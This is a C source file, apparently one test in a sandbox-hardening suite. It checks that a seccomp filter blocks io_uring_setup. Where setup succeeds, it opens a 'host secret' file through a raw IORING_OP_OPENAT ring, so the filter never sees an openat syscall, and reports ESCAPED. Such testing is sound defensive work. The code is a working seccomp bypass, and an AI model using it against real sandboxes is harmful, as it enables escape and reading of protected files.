/*
 * iouring — class 6: io_uring performs operations the seccomp filter never
 * sees (an IORING_OP_OPENAT is no openat syscall).
 *
 *   iouring PATH
 *
 * io_uring_setup must fail with the baseline's EPERM.  Where it works, the
 * attack goes on to open PATH (the host's secret) through the ring, to show
 * what a filter without that entry would leave open: setup alone is an
 * ESCAPED verdict, reading the secret is reported on top.
 */
#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "attack.h"

static int openat_through_ring(int ring, struct io_uring_params *p, const char *path)
{
	size_t sq_len = p->sq_off.array + p->sq_entries * sizeof(unsigned);
	size_t cq_len = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe);
	size_t sqe_len = p->sq_entries * sizeof(struct io_uring_sqe);
	unsigned char *sq, *cq;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	unsigned tail;
	long n;

	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	sqe = mmap(NULL, sqe_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED) {
		say("mapping the ring: %s", strerror(errno));
		return -1;
	}
	memset(&sqe[0], 0, sizeof(sqe[0]));
	sqe[0].opcode = IORING_OP_OPENAT;
	sqe[0].fd = AT_FDCWD;
	sqe[0].addr = (unsigned long)path;
	sqe[0].open_flags = O_RDONLY | O_CLOEXEC;
	tail = *(unsigned *)(sq + p->sq_off.tail);
	((unsigned *)(sq + p->sq_off.array))[tail & *(unsigned *)(sq + p->sq_off.ring_mask)] = 0;
	__atomic_store_n((unsigned *)(sq + p->sq_off.tail), tail + 1, __ATOMIC_RELEASE);
	n = syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	if (n < 0) {
		say("io_uring_enter: %s", strerror(errno));
		return -1;
	}
	cqe = (struct io_uring_cqe *)(cq + p->cq_off.cqes);
	cqe += *(unsigned *)(cq + p->cq_off.head) & *(unsigned *)(cq + p->cq_off.ring_mask);
	if (cqe->res < 0) {
		say("IORING_OP_OPENAT %s: %s", path, strerror(-cqe->res));
		return -1;
	}
	return cqe->res;
}

int main(int argc, char **argv)
{
	struct io_uring_params p;
	int ring, fd;

	attack_name = "iouring";
	if (argc != 2)
		usage("PATH");
	memset(&p, 0, sizeof(p));
	ring = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (ring < 0)
		return verdict("io_uring_setup", -1, EPERM);
	say("io_uring_setup: ring %d: the filter can be bypassed: ESCAPED", ring);
	fd = openat_through_ring(ring, &p, argv[1]);
	if (fd >= 0 && has_secret(fd))
		say("IORING_OP_OPENAT read the host's secret %s", argv[1]);
	return ESCAPED;
}
